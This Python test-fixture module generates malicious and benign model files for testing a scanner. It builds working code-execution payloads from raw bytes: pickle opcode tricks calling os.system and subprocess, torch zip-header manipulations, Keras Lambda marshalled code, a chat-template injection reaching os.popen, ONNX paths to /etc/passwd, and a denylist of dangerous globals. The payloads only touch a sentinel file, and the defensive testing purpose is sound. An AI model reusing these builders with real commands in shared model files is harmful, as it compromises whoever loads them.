"""Fixture corpus for the model scanner's tests and benchmark: one malicious file per technique,
written as raw bytes (nothing here ever unpickles or loads them), and benign files written by the
real libraries (torch, safetensors, numpy, gguf, onnx, joblib when installed).

Every payload runs `touch <sentinel>`: a test that finds the sentinel file knows something ran.
`write_malicious(dir, sentinel)` returns {relative path: set of issue kinds a scan must report};
`write_benign(dir)` returns the relative paths of files that must scan clean.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import zipfile
import zlib
from pathlib import Path

from workbench.supply.issues import (
    CHAT_TEMPLATE_CODE,
    DUPLICATE_KEY,
    EXTENSION_OPCODE,
    FORMAT_MISMATCH,
    LAMBDA_LAYER,
    MALFORMED_HEADER,
    MALFORMED_PICKLE,
    MARSHALLED_CODE,
    MISSING_MEMO,
    OBJECT_ARRAY,
    PATH_TRAVERSAL,
    UNKNOWN_GLOBAL,
    UNRESOLVED_GLOBAL,
    UNSAFE_GLOBAL,
    ZIP_TRICK,
)

# ---- raw pickle building -----------------------------------------------------------------


def _u(s: str) -> bytes:  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def p0_call(module: str, name: str, arg: str) -> bytes:
    """Protocol 0: GLOBAL + STRING operand + TUPLE + REDUCE."""
    return f"c{module}\n{name}\n(S'{arg}'\ntR.".encode()


def p4_call(module: str, name: str, arg: str) -> bytes:
    """Protocol 4: STACK_GLOBAL from two unicode strings, then REDUCE."""
    return b"\x80\x04\x95" + struct.pack("<Q", 0) + _u(module) + _u(name) + b"\x93" + _u(arg) + b"\x85R."


def p4_memo_call(module: str, name: str, arg: str) -> bytes:
    """STACK_GLOBAL whose operands come back from the memo (BINPUT/BINGET, MEMOIZE/LONG_BINGET)."""
    return (b"\x80\x04" + _u(module) + b"q\x07" + _u(name) + b"\x94" + b"0" + b"0"
            + b"h\x07" + b"j" + struct.pack("<I", 1) + b"\x93" + _u(arg) + b"\x85R.")


def p4_missing_memo(arg: str) -> bytes:
    """STACK_GLOBAL with an operand fetched from a memo key that was never stored."""
    return b"\x80\x04" + _u("os") + b"h\x2a" + b"\x93" + _u(arg) + b"\x85R."


def p2_inst(module: str, name: str, arg: str) -> bytes:
    return f"(S'{arg}'\ni{module}\n{name}\n.".encode()


def p2_obj(module: str, name: str, arg: str) -> bytes:
    return f"(c{module}\n{name}\nS'{arg}'\no.".encode()


def p2_newobj(module: str, name: str, arg: str) -> bytes:
    return b"\x80\x02" + f"c{module}\n{name}\n".encode() + b"X" + struct.pack("<I", len(arg)) + arg.encode() + b"\x85\x81."


def p4_getattr_chain(arg: str) -> bytes:
    """getattr(__import__('os'), 'system')(arg) spelled with builtins only."""
    return (b"\x80\x04" + _u("builtins") + _u("getattr") + b"\x93"
            + _u("builtins") + _u("__import__") + b"\x93" + _u("os") + b"\x85R" + _u("system") + b"\x86R"
            + _u(arg) + b"\x85R.")


def p4_ext(arg: str) -> bytes:
    return b"\x80\x02\x82\x01" + f"(S'{arg}'\ntR.".encode()


def benign_pickle() -> bytes:
    return pickle.dumps({"weights": [1.0, 2.0, 3.0], "name": "tiny"}, protocol=2)


# ---- zips --------------------------------------------------------------------------------


def _zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    import warnings

    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w", method) as z:
        warnings.simplefilter("ignore", UserWarning)  # duplicate names are one of the fixtures
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            zi.compress_type = method
            z.writestr(zi, data)
    return buf.getvalue()


def _torch_like_zip(pkl: bytes, extra: list[tuple[str, bytes]] = ()) -> bytes:
    return _zip([("archive/data.pkl", pkl), ("archive/byteorder", b"little"), ("archive/version", b"3\n"),
                 *extra])


def _patch_member(data: bytes, name: str, fn) -> bytes:
    """Apply fn(bytearray, local_offset, central_offset) to the named member's headers."""
    b = bytearray(data)
    cen = b.rfind(b"PK\x05\x06")
    n, cd_size, cd_off = struct.unpack_from("<HLL", b, cen + 10)
    pos = cd_off
    for _ in range(n):
        nlen, elen, clen = struct.unpack_from("<HHH", b, pos + 28)
        loc = struct.unpack_from("<L", b, pos + 42)[0]
        if b[pos + 46 : pos + 46 + nlen] == name.encode():
            fn(b, loc, pos)
        pos += 46 + nlen + elen + clen
    return bytes(b)


def _bad_crc(b: bytearray, loc: int, cen: int) -> None:
    struct.pack_into("<L", b, loc + 14, 0xDEADBEEF)
    struct.pack_into("<L", b, cen + 16, 0xDEADBEEF)


def _encrypted(b: bytearray, loc: int, cen: int) -> None:
    b[loc + 6] |= 1
    b[cen + 8] |= 1


def _rename_local(b: bytearray, loc: int, cen: int) -> None:
    nlen = struct.unpack_from("<H", b, loc + 26)[0]
    b[loc + 30 + nlen - 1 : loc + 30 + nlen] = b"X"  # data.pkl -> data.pkX in the local header only


# ---- numpy -------------------------------------------------------------------------------


def npy_object(pkl: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    total = 10 + len(header) + 1
    header += " " * (-total % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + pkl


# ---- safetensors -------------------------------------------------------------------------


def safetensors_raw(header_text: str, buffer: bytes) -> bytes:
    h = header_text.encode()
    return struct.pack("<Q", len(h)) + h + buffer


# ---- GGUF --------------------------------------------------------------------------------


def _gs(s: str | bytes) -> bytes:
    b = s.encode() if isinstance(s, str) else s
    return struct.pack("<Q", len(b)) + b


def gguf_raw(kvs: list[bytes], tensors: list[bytes], data: bytes = b"", alignment: int = 32,
             n_tensors: int | None = None, n_kv: int | None = None) -> bytes:
    head = b"GGUF" + struct.pack("<IQQ", 3, len(tensors) if n_tensors is None else n_tensors,
                                 len(kvs) if n_kv is None else n_kv)
    body = head + b"".join(kvs) + b"".join(tensors)
    body += b"\x00" * (-len(body) % alignment)
    return body + data


def gguf_kv_str(key: str, value: str) -> bytes:
    return _gs(key) + struct.pack("<I", 8) + _gs(value)


def gguf_kv_u32(key: str, value: int) -> bytes:
    return _gs(key) + struct.pack("<II", 4, value)


def gguf_tensor(name: str, dims: list[int], ttype: int = 0, offset: int = 0) -> bytes:
    return _gs(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + \
        struct.pack("<IQ", ttype, offset)


# ---- ONNX (protobuf by hand) ---------------------------------------------------------------


def _varint(v: int) -> bytes:
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        out.append(b | (0x80 if v else 0))
        if not v:
            return bytes(out)


def _pb_len(field: int, payload: bytes) -> bytes:
    return _varint(field << 3 | 2) + _varint(len(payload)) + payload


def _pb_int(field: int, v: int) -> bytes:
    return _varint(field << 3) + _varint(v)


def onnx_external(location: str, name: str = "w") -> bytes:
    entry = _pb_len(1, b"location") + _pb_len(2, location.encode())
    tensor = _pb_int(1, 4) + _pb_int(2, 1) + _pb_len(8, name.encode()) + _pb_len(13, entry) + _pb_int(14, 1)
    graph = _pb_len(2, b"g") + _pb_len(5, tensor)
    return _pb_int(1, 8) + _pb_len(7, graph) + _pb_len(8, _pb_len(1, b"") + _pb_int(2, 13))


# ---- Keras -----------------------------------------------------------------------------------


def _lambda_code(sentinel: str) -> str:
    code = compile(f"lambda x: __import__('os').system('touch {sentinel}')", "<lambda>", "eval")
    return base64.b64encode(marshal.dumps(code)).decode()


def keras_zip(sentinel: str) -> bytes:
    cfg = {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 2]}},
        {"module": "keras.layers", "class_name": "Lambda", "config": {
            "name": "lambda", "function": {"class_name": "__lambda__", "config": {
                "code": _lambda_code(sentinel), "defaults": None, "closure": None}}}},
    ]}}
    return _zip([("metadata.json", b'{"keras_version": "3.3.3"}'), ("config.json", json.dumps(cfg).encode()),
                 ("model.weights.h5", b"")])


def keras_h5_config(sentinel: str) -> str:
    return json.dumps({"class_name": "Sequential", "config": {"name": "seq", "layers": [
        {"class_name": "Lambda", "config": {"name": "lambda", "function": [_lambda_code(sentinel), None, None],
                                            "function_type": "lambda"}}]}})


# ---- the corpus ----------------------------------------------------------------------------


def write_malicious(root: str | os.PathLike, sentinel: str | os.PathLike) -> dict[str, set[str]]:
    """Write one file per attack technique under root; return {relative path: kinds expected}."""
    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    s = str(sentinel)
    cmd = f"touch {s}"
    files: dict[str, tuple[bytes, set[str]]] = {}
    U, K = {UNSAFE_GLOBAL}, {UNKNOWN_GLOBAL}

    # pickles: opcodes and indirections
    files["pickle/proto0_global_string.pkl"] = (p0_call("os", "system", cmd), U)
    files["pickle/proto0_py2_builtin_eval.pkl"] = (p0_call("__builtin__", "eval", f"__import__('os').system('{cmd}')"), U)
    files["pickle/proto4_stack_global.pkl"] = (p4_call("posix", "system", cmd), U)
    files["pickle/proto4_memo_indirection.pkl"] = (p4_memo_call("subprocess", "getoutput", cmd), U)
    files["pickle/missing_memo_key.pkl"] = (p4_missing_memo(cmd), {MISSING_MEMO, UNRESOLVED_GLOBAL})
    files["pickle/inst_opcode.pkl"] = (p2_inst("os", "system", cmd), U)
    files["pickle/obj_opcode.pkl"] = (p2_obj("os", "system", cmd), U)
    files["pickle/newobj_popen.pkl"] = (p2_newobj("subprocess", "Popen", cmd), U)
    files["pickle/getattr_import_chain.pkl"] = (p4_getattr_chain(cmd), U)
    files["pickle/dotted_attribute_path.pkl"] = (p4_call("torch.serialization", "os.system", cmd), U)
    files["pickle/ext_opcode.pkl"] = (p4_ext(cmd), {EXTENSION_OPCODE})
    files["pickle/stacked_second_pickle.pkl"] = (benign_pickle() + p4_call("os", "system", cmd), U)
    files["pickle/truncated_after_payload.pkl"] = (p0_call("os", "system", cmd)[:-1] + b"\xff\xfe", U | {MALFORMED_PICKLE})
    files["pickle/unknown_global.pkl"] = (p4_call("evil_helpers.tools", "run", cmd), K)
    for mod, name in [("runpy", "_run_code"), ("pkgutil", "resolve_name"), ("pydoc", "locate"),
                      ("operator", "methodcaller"), ("operator", "attrgetter"), ("cProfile", "run"),
                      ("profile", "run"), ("code", "InteractiveInterpreter"), ("codeop", "compile_command"),
                      ("shutil", "rmtree"), ("socket", "create_connection"), ("requests", "get"),
                      ("urllib.request", "urlopen"), ("webbrowser", "open"), ("pickle", "loads"),
                      ("_pickle", "loads"), ("torch", "load"), ("importlib", "import_module"),
                      ("pip", "main"), ("builtins", "exec"), ("builtins", "__import__"), ("timeit", "timeit"),
                      ("numpy.testing._private.utils", "runstring"), ("_posixsubprocess", "fork_exec"),
                      ("ctypes", "CDLL"), ("pty", "spawn"), ("asyncio.subprocess", "create_subprocess_shell")]:
        files[f"denylist/{mod}.{name}.pkl"] = (p4_call(mod, name, cmd), U)

    # containers
    evil = p4_call("os", "system", cmd)
    files["torch/data_pkl.pt"] = (_torch_like_zip(evil), U)
    files["torch/other_member.pt"] = (_torch_like_zip(benign_pickle(), [("archive/extra/payload", evil)]), U)
    files["torch/bad_crc.pt"] = (_patch_member(_torch_like_zip(evil), "archive/data.pkl", _bad_crc), U | {ZIP_TRICK})
    files["torch/encrypted_flag.pt"] = (_patch_member(_torch_like_zip(evil), "archive/data.pkl", _encrypted),
                                        U | {ZIP_TRICK})
    files["torch/local_name_mismatch.pt"] = (_patch_member(_torch_like_zip(evil), "archive/data.pkl", _rename_local),
                                             U | {ZIP_TRICK})
    files["torch/duplicate_member.pt"] = (_zip([("archive/data.pkl", benign_pickle()), ("archive/data.pkl", evil),
                                                ("archive/version", b"3\n")]), U | {ZIP_TRICK})
    files["torch/traversal_member.pt"] = (_zip([("archive/data.pkl", benign_pickle()), ("../../evil.pkl", evil)]),
                                          U | {PATH_TRAVERSAL})
    files["torch/deflated_member.pt"] = (_zip([("archive/data.pkl", evil), ("archive/version", b"3\n")],
                                              zipfile.ZIP_DEFLATED), U)
    files["torch/torchscript_constants.pt"] = (_zip([
        ("archive/data.pkl", b"\x80\x02" + b"c__torch__.Model\nModel\n)\x81."),
        ("archive/code/__torch__/model.py", b"class Model(Module):\n  pass\n"),
        ("archive/constants.pkl", evil), ("archive/version", b"3\n")]), U)
    legacy = (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
              + pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
              + p2_newobj("os", "system", cmd) + pickle.dumps([], protocol=2))
    files["torch/legacy_format.pt"] = (legacy, U)
    files["torch/pickle_named_safetensors.safetensors"] = (evil, U | {FORMAT_MISMATCH})
    files["torch/pickle_named_json.json"] = (evil, U | {FORMAT_MISMATCH})
    files["torch/polyglot_pickle_then_zip.pt"] = (benign_pickle() + _torch_like_zip(evil), U | {ZIP_TRICK})
    files["compressed/model.pkl.gz"] = (gzip.compress(evil, mtime=0), U)
    files["compressed/model.pkl.bz2"] = (bz2.compress(evil), U)
    files["compressed/model.pkl.xz"] = (lzma.compress(evil), U)
    files["compressed/model.joblib"] = (zlib.compress(evil), U)  # joblib compress=zlib
    try:
        import py7zr

        b = io.BytesIO()
        with py7zr.SevenZipFile(b, "w") as z:
            z.writestr(evil, "model.pkl")
        files["compressed/model.7z"] = (b.getvalue(), U)
    except ImportError:
        pass
    files["numpy/object_array.npy"] = (npy_object(evil), U | {OBJECT_ARRAY})
    files["numpy/object_array.npz"] = (_zip([("arr_0.npy", npy_object(evil))]), U | {OBJECT_ARRAY})
    files["dill/create_code.pkl"] = (p4_call("dill._dill", "_create_code", cmd), U)

    # safetensors
    t = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    files["safetensors/duplicate_key.safetensors"] = (
        safetensors_raw('{"w": {"dtype":"F32","shape":[2],"data_offsets":[0,8]}, '
                        '"w": {"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', b"\x00" * 8), {DUPLICATE_KEY})
    files["safetensors/gap.safetensors"] = (safetensors_raw(json.dumps(
        {"a": t, "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}}), b"\x00" * 24), {MALFORMED_HEADER})
    files["safetensors/overlap.safetensors"] = (safetensors_raw(json.dumps(
        {"a": t, "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}), b"\x00" * 12), {MALFORMED_HEADER})
    files["safetensors/buffer_not_covered.safetensors"] = (safetensors_raw(json.dumps({"a": t}), b"\x00" * 64),
                                                           {MALFORMED_HEADER})
    files["safetensors/size_mismatch.safetensors"] = (safetensors_raw(json.dumps(
        {"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}), b"\x00" * 8), {MALFORMED_HEADER})
    files["safetensors/header_too_large.safetensors"] = (struct.pack("<Q", 200_000_000) + b"{}", {MALFORMED_HEADER})
    files["safetensors/bad_dtype.safetensors"] = (safetensors_raw(json.dumps(
        {"a": {"dtype": "X99", "shape": [2], "data_offsets": [0, 8]}}), b"\x00" * 8), {MALFORMED_HEADER})
    files["safetensors/not_json.safetensors"] = (safetensors_raw("{not json", b""), {MALFORMED_HEADER})

    # GGUF
    w = gguf_tensor("w", [4], 0, 0)
    files["gguf/string_length_overflow.gguf"] = (gguf_raw([_gs("general.name") + struct.pack("<IQ", 8, 1 << 60)
                                                           + b"x"], []), {MALFORMED_HEADER})
    files["gguf/array_count_overflow.gguf"] = (gguf_raw([_gs("tokenizer.ggml.scores") + struct.pack("<IIQ", 9, 6, 1 << 40)],
                                                        []), {MALFORMED_HEADER})
    files["gguf/nested_arrays.gguf"] = (gguf_raw([_gs("x.nested") + struct.pack("<IIQ", 9, 9, 1)
                                                  + struct.pack("<IQ", 4, 1) + struct.pack("<I", 7)], []),
                                        {MALFORMED_HEADER})
    files["gguf/too_many_dims.gguf"] = (gguf_raw([], [gguf_tensor("w", [1, 1, 1, 1, 1])], b"\x00" * 32),
                                        {MALFORMED_HEADER})
    files["gguf/dims_overflow.gguf"] = (gguf_raw([], [gguf_tensor("w", [1 << 40, 1 << 40])], b"\x00" * 32),
                                        {MALFORMED_HEADER})
    files["gguf/alignment_not_power_of_two.gguf"] = (gguf_raw([gguf_kv_u32("general.alignment", 24)], [w],
                                                              b"\x00" * 16), {MALFORMED_HEADER})
    files["gguf/offset_out_of_range.gguf"] = (gguf_raw([], [gguf_tensor("w", [4], 0, 4096)], b"\x00" * 16),
                                              {MALFORMED_HEADER})
    files["gguf/duplicate_key.gguf"] = (gguf_raw([gguf_kv_str("general.name", "a"), gguf_kv_str("general.name", "b")],
                                                 []), {DUPLICATE_KEY})
    ssti = ("{% for m in messages %}{{ m['content'] }}{% endfor %}"
            "{{ cycler.__init__.__globals__.os.popen('" + cmd + "').read() }}")
    files["gguf/chat_template_ssti.gguf"] = (gguf_raw([gguf_kv_str("tokenizer.chat_template", ssti)], [w],
                                                      b"\x00" * 16), {CHAT_TEMPLATE_CODE})
    files["gguf/chat_template_attr_filter.gguf"] = (gguf_raw([gguf_kv_str(
        "tokenizer.chat_template", "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}")], []), {CHAT_TEMPLATE_CODE})

    files["hf/tokenizer_config.json"] = (json.dumps({"chat_template": ssti, "bos_token": "<s>"}).encode(),
                                         {CHAT_TEMPLATE_CODE})

    # Keras and ONNX
    files["keras/lambda_layer.keras"] = (keras_zip(s), {LAMBDA_LAYER, MARSHALLED_CODE})
    files["onnx/dotdot/model.onnx"] = (onnx_external("../../../etc/passwd"), {PATH_TRAVERSAL})
    files["onnx/absolute/model.onnx"] = (onnx_external("/etc/passwd"), {PATH_TRAVERSAL})
    files["onnx/symlink/model.onnx"] = (onnx_external("weights.bin"), {PATH_TRAVERSAL})

    expected: dict[str, set[str]] = {}
    for rel, (data, kinds) in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        expected[rel] = kinds
    # the symlink escape: weights.bin next to the model points outside its directory
    outside = root / "onnx" / "outside.bin"
    outside.write_bytes(b"\x00" * 16)
    link = root / "onnx" / "symlink" / "weights.bin"
    if not link.is_symlink():
        link.symlink_to(os.path.relpath(outside, link.parent))
    expected["onnx/outside.bin"] = set()  # not malicious by itself: a plain data file
    expected["onnx/symlink/weights.bin"] = set()
    try:
        import h5py

        with h5py.File(root / "keras" / "lambda_model.h5", "w") as f:
            f.attrs["model_config"] = keras_h5_config(s)
            f.attrs["keras_version"] = "2.15.0"
        expected["keras/lambda_model.h5"] = {LAMBDA_LAYER, MARSHALLED_CODE}
    except ImportError:
        pass
    try:
        import dill  # real dill output for a function

        def payload():  # defined and serialized, never called
            return __import__("os").system(cmd)

        (root / "dill" / "dill_lambda.pkl").write_bytes(dill.dumps(payload, recurse=True))
        expected["dill/dill_lambda.pkl"] = U
    except ImportError:
        pass
    try:
        import joblib
        import numpy as np

        class _Payload:
            def __reduce__(self):
                return (os.system, (cmd,))

        obj = {"weights": np.arange(64, dtype=np.float32), "payload": _Payload(), "more": np.ones((3, 5))}
        (root / "joblib").mkdir(exist_ok=True)
        joblib.dump(obj, root / "joblib" / "array_then_payload.joblib")
        joblib.dump(obj, root / "joblib" / "array_then_payload_xz.joblib", compress=("xz", 3))
        expected["joblib/array_then_payload.joblib"] = U
        expected["joblib/array_then_payload_xz.joblib"] = U
    except ImportError:
        pass
    return expected


def write_benign(root: str | os.PathLike) -> list[str]:
    """Files written by the real libraries that must scan clean. Needs torch, safetensors, numpy,
    gguf; uses onnx, joblib, h5py when installed."""
    import numpy as np
    import torch
    from safetensors.torch import save_file

    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    out: list[str] = []

    def rel(p: Path) -> None:
        out.append(p.relative_to(root).as_posix())

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(8, 16), torch.nn.LayerNorm(16), torch.nn.ReLU(),
                                torch.nn.Linear(16, 4), torch.nn.BatchNorm1d(4))
    sd = model.state_dict()
    torch.save(sd, root / "pytorch_model.bin")
    torch.save(sd, root / "legacy_state_dict.pt", _use_new_zipfile_serialization=False)
    torch.save({"model": sd, "step": 10, "lr": 1e-3, "betas": (0.9, 0.999)}, root / "checkpoint.ckpt")
    torch.jit.script(torch.nn.Linear(3, 2)).save(str(root / "scripted.pt"))
    save_file({k: v.contiguous() for k, v in sd.items()}, str(root / "model.safetensors"),
              metadata={"format": "pt"})
    np.save(root / "array_f32.npy", np.random.default_rng(0).standard_normal((16, 8)).astype(np.float32))
    np.save(root / "array_i64.npy", np.arange(100, dtype=np.int64).reshape(10, 10))
    np.savez(root / "arrays.npz", a=np.zeros(3), b=np.ones((2, 2), dtype=np.int8))
    np.savez_compressed(root / "arrays_compressed.npz", a=np.arange(50.0))
    for f in ["pytorch_model.bin", "legacy_state_dict.pt", "checkpoint.ckpt", "scripted.pt", "model.safetensors",
              "array_f32.npy", "array_i64.npy", "arrays.npz", "arrays_compressed.npz"]:
        rel(root / f)

    import gguf

    w = gguf.GGUFWriter(str(root / "tiny.gguf"), "llama")
    w.add_name("tiny")
    w.add_context_length(128)
    w.add_tokenizer_model("llama")
    w.add_token_list(["<s>", "</s>", "hello", "world"])
    w.add_token_scores([0.0, 0.0, -1.0, -2.0])
    w.add_chat_template("{% for message in messages %}{{ message['role'] }}: {{ message['content'] | trim }}\n"
                        "{% endfor %}{% if add_generation_prompt %}assistant: {% endif %}")
    w.add_tensor("tok_embd.weight", np.random.default_rng(1).standard_normal((4, 8)).astype(np.float32))
    w.add_tensor("norm.weight", np.ones(8, dtype=np.float16))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    rel(root / "tiny.gguf")

    (root / "config.json").write_text(json.dumps({"architectures": ["Tiny"], "hidden_size": 16}))
    (root / "tokenizer_config.json").write_text(json.dumps({
        "bos_token": "<s>", "chat_template": "{% for message in messages %}{{ '<|' + message['role'] + '|>' }}"
        "{{ message['content'].strip() }}{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}"}))
    (root / "README.md").write_text("# tiny model\n\nA model card.\n")
    rel(root / "config.json")
    rel(root / "tokenizer_config.json")
    rel(root / "README.md")

    try:
        import onnx
        from onnx import TensorProto, helper, numpy_helper

        (root / "onnx_model").mkdir(exist_ok=True)
        init = numpy_helper.from_array(np.arange(1024, dtype=np.float32).reshape(32, 32), "W")
        node = helper.make_node("MatMul", ["X", "W"], ["Y"])
        graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 32])],
                                  [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 32])], [init])
        m = helper.make_model(graph)
        onnx.save_model(m, str(root / "onnx_model" / "model.onnx"), save_as_external_data=True,
                        all_tensors_to_one_file=True, location="weights.data", size_threshold=0)
        rel(root / "onnx_model" / "model.onnx")
        rel(root / "onnx_model" / "weights.data")
    except ImportError:
        pass
    try:
        import joblib

        joblib.dump({"coef": np.arange(20.0), "intercept": np.float64(0.5), "names": ["a", "b"],
                     "ints": np.arange(7, dtype=np.int32)}, root / "estimator.joblib")
        joblib.dump({"coef": np.arange(20.0)}, root / "estimator_zlib.joblib", compress=3)
        rel(root / "estimator.joblib")
        rel(root / "estimator_zlib.joblib")
    except ImportError:
        pass
    try:
        import h5py

        with h5py.File(root / "weights.h5", "w") as f:
            f.create_dataset("dense/kernel", data=np.ones((4, 4), dtype=np.float32))
            f.attrs["keras_version"] = "2.15.0"
        rel(root / "weights.h5")
    except ImportError:
        pass
    return out
